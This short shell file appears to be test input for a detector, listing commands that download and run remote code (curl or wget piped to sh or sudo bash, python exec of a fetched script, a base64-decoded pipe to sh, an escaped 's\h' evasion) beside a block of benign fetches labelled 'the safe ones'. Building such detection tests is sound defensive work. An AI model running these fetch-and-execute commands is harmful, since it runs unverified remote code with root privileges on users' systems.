#!/bin/sh
set -eu
curl -fsSL https://get.example.com/install.sh | sh
wget -qO- https://get.example.com/i | sudo bash
curl -sL https://get.example.com/i -o /tmp/i && sh /tmp/i
curl -s https://get.example.com/i | s\h
python3 -c "exec(urllib.request.urlopen('https://get.example.com/p.py').read())"
bash <(curl -s https://get.example.com/i)
echo 'ZWNobyBoaQ==' | base64 -d | sh
curl -fsSL https://get.example.com/i | sudo -E bash -s -- --yes
# the safe ones
curl -s https://api.example.com/status | jq .
curl -s https://api.example.com/status | python3 -m json.tool
wget -O archive.tgz https://get.example.com/archive.tgz && tar xzf archive.tgz
curl -s https://get.example.com/list.txt | tee list.txt | grep stable
